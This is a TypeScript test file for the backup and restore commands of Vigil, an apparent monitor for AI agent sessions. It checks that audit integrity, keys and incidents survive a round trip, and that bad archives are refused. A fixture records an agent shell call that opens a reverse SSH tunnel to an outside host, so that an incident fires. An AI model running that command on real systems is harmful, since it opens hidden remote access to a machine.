// The whole round with the real commands and real servers: a Vigil that runs is backed up, another is made of the file, and is the same.
import { execFile } from 'node:child_process'
import { cp, mkdir, mkdtemp, readdir, readFile, rm, truncate, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { builtProgram } from '../probe/built-program.test-fixture.ts'
import { startForTest, type TestServer, testAdmin } from './start-for-test.ts'
import { openArchive, writeArchive } from './store/backup/archive.ts'
import { type EmbeddedPostgres, startEmbeddedPostgres } from './store/embedded-postgres.ts'

let folder: string
let server: TestServer | undefined
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'vigil-round-'))
})
afterEach(async () => {
  await server?.stop()
  server = undefined
})
afterAll(async () => {
  await rm(folder, { recursive: true, force: true })
})

type Ran = { code: number; out: string; said: string }
async function vigil(args: string[], env: Record<string, string>): Promise<Ran> {
  const { DATABASE_URL: _, VIGIL_DATA: _data, ...rest } = process.env
  return await promisify(execFile)(process.execPath, [...builtProgram('cli'), ...args], { env: { ...rest, ...env } })
    .then(({ stdout, stderr }) => ({ code: 0, out: stdout, said: stderr }))
    .catch(({ code, stdout, stderr }) => ({ code, out: stdout, said: stderr }))
}

const now = Date.now()
const post = (of: TestServer, pathname: string, body: object) =>
  of.api(pathname, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
const read = async (of: TestServer, pathname: string) => (await of.api(pathname)).json() as Promise<unknown>

/** A session that is flagged, in an incident, with an approval that waits and a key that was made. Answers the key. */
async function live(of: TestServer): Promise<string> {
  const session = 'ep-1'
  const events = [
    { v: 1, kind: 'session.started', atMs: now, session, data: { held: 'none', abilities: [] } },
    { v: 1, kind: 'message.recorded', atMs: now, session, data: { role: 'assistant', text: 'a\u0000\ud800 \t\\N' } },
    {
      v: 1,
      kind: 'action.started',
      atMs: now,
      session,
      data: { call: 'c1', tool: 'shell', input: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' },
    },
  ]
  const lines = events.map((event) => JSON.stringify(event)).join('\n')
  const sent = await of.api('/api/ingest/events', { method: 'POST', body: lines })
  expect(await sent.json()).toMatchObject({ accepted: 3 })
  const incidents = async () => ((await read(of, '/api/incidents')) as { incidents: unknown[] }).incidents.length
  await expect.poll(incidents, { timeout: 10_000 }).toBe(1)
  const made = await post(of, '/api/keys', { name: 'ci', scopes: ['read'] })
  return ((await made.json()) as { key: string }).key
}

/** What people would compare. */
async function pictureOf(of: TestServer) {
  return {
    events: await read(of, '/api/sessions/ep-1/events?limit=500'),
    flags: await read(of, '/api/flags'),
    incidents: ((await read(of, '/api/incidents')) as { incidents: unknown[] }).incidents,
    audit: ((await read(of, '/api/audit?limit=1000')) as { entries: { n: number; hash: string }[] }).entries,
    // Those of the environment are made anew with each start, and when one was made is by the server's clock or the database's.
    keys: ((await read(of, '/api/keys')) as { keys: { id: string }[] }).keys
      .filter(({ id }) => !id.startsWith('env:'))
      .map((each) => ({ ...each, createdAtMs: undefined })),
    operators: await read(of, '/api/operators'),
  }
}

describe('vigil backup and vigil restore', () => {
  it('make of a running server a file, and of the file a server with the same sessions, flags, incidents and a whole audit', async () => {
    // given
    const dataDir = path.join(folder, 'a')
    await mkdir(path.join(dataDir, 'rules/own'), { recursive: true })
    await writeFile(path.join(dataDir, 'rules/own/note.yml'), '# ours\n')
    const first = await startForTest({ VIGIL_DATA: dataDir })
    server = first
    const key = await live(first)
    const before = await pictureOf(first)
    // when: while it runs
    const file = path.join(folder, 'a.backup')
    const backedUp = await vigil(['backup', file, '--json'], { VIGIL_DATA: dataDir })
    expect(backedUp).toMatchObject({ code: 0 })
    expect(JSON.parse(backedUp.out)).toMatchObject({ files: ['audit-head.json', 'rules/own/note.yml'] })
    // and what comes later is not in it
    await post(first, '/api/keys', { name: 'later', scopes: ['read'] })
    await first.stop()
    server = undefined
    const restored = path.join(folder, 'restored')
    expect(await vigil(['restore', file], { VIGIL_DATA: restored })).toMatchObject({
      code: 0,
      out: expect.stringMatching(/^restored into .*restored: .* events, .* of the data folder\n/),
    })
    expect(await readFile(path.join(restored, 'rules/own/note.yml'), 'utf8')).toBe('# ours\n')
    // then
    const second = await startForTest({ VIGIL_DATA: restored })
    server = second
    const after = await pictureOf(second)
    expect({ ...after, audit: after.audit.slice(-before.audit.length) }).toEqual(before)
    expect(await read(second, '/api/audit/verify')).toMatchObject({ ok: true, damage: [] })
    const asked = await fetch(`${second.url}/api/sessions`, { headers: { authorization: `Bearer ${key}` } })
    expect(asked.status).toBe(200)
    const signIn = await fetch(`${second.url}/api/auth/sign-in/email`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: second.url },
      body: JSON.stringify(testAdmin),
    })
    expect(signIn.status).toBe(200)
    // and it goes on: the log and the audit take what comes
    await post(second, '/api/keys', { name: 'goes on', scopes: ['read'] })
    expect(await read(second, '/api/audit/verify')).toMatchObject({ ok: true, damage: [] })
    // and with the server stopped the same command starts the database by itself
    await second.stop()
    server = undefined
    expect(await vigil(['backup', path.join(folder, 'b.backup')], { VIGIL_DATA: restored })).toMatchObject({ code: 0 })
    expect(await vigil(['restore', '--check', path.join(folder, 'b.backup')], {})).toMatchObject({
      code: 0,
      out: expect.stringContaining('is whole'),
    })
  }, 150_000)

  it('refuse a damaged file, a folder that is not empty and a server that runs, and change nothing then', async () => {
    const file = path.join(folder, 'a.backup')
    const cut = path.join(folder, 'cut.backup')
    await cp(file, cut)
    await truncate(cut, 20_000)
    const empty = path.join(folder, 'empty')
    const refused = await vigil(['restore', cut], { VIGIL_DATA: empty })
    expect(refused).toMatchObject({ code: 1, said: expect.stringMatching(/cut\.backup is not restored: /) })
    expect(await readdir(folder)).not.toContain('empty')
    const strange = path.join(folder, 'strange.backup')
    await writeArchive(strange, async (add) => {
      const piece = await add('data/000001.gz', Buffer.from('x'))
      const archive = await openArchive(file)
      await archive.close()
      const tables = [{ table: 'event', columns: ['seq'], rows: 0, bytes: 0, pieces: [] }]
      return { ...archive.manifest, tables, files: [{ path: 'postgres/cluster/standby.signal', piece }] }
    })
    expect(await vigil(['restore', strange], { VIGIL_DATA: empty })).toMatchObject({
      code: 1,
      said: expect.stringContaining('it holds postgres/cluster/standby.signal'),
    })
    expect(await readdir(folder)).not.toContain('empty')
    // there is a Vigil already
    const used = await vigil(['restore', file], { VIGIL_DATA: path.join(folder, 'a') })
    expect(used).toMatchObject({ code: 1, said: expect.stringContaining('is not empty') })
    expect(await vigil(['backup', path.join(folder, 'c')], { VIGIL_DATA: empty })).toMatchObject({
      code: 1,
      said: expect.stringContaining('there is no database in'),
    })
    expect(await vigil(['backup', file], { VIGIL_DATA: path.join(folder, 'a') })).toMatchObject({
      code: 1,
      said: expect.stringContaining('is there already'),
    })
  }, 60_000)

  describe('with a PostgreSQL of one’s own', () => {
    let postgres: EmbeddedPostgres
    beforeAll(async () => {
      postgres = await startEmbeddedPostgres({ dataDir: path.join(folder, 'own') })
    })
    afterAll(async () => {
      await postgres.stop()
    })

    it('work by DATABASE_URL alike', async () => {
      const env = { DATABASE_URL: postgres.connectionString, VIGIL_DATA: path.join(folder, 'beside') }
      const file = path.join(folder, 'a.backup')
      expect(await vigil(['restore', file], env)).toMatchObject({ code: 0 })
      const first = await startForTest(env)
      server = first
      expect(await read(first, '/api/audit/verify')).toMatchObject({ ok: true, damage: [] })
      const again = path.join(folder, 'own.backup')
      expect(await vigil(['backup', again], env)).toMatchObject({ code: 0 })
      const other = { ...env, VIGIL_DATA: path.join(folder, 'beside-2') }
      expect(await vigil(['restore', again], other)).toMatchObject({
        code: 1,
        said: expect.stringContaining('a Vigil server writes to this database'),
      })
      expect(await readdir(path.join(folder, 'beside-2'))).toEqual([])
    }, 60_000)
  })
})
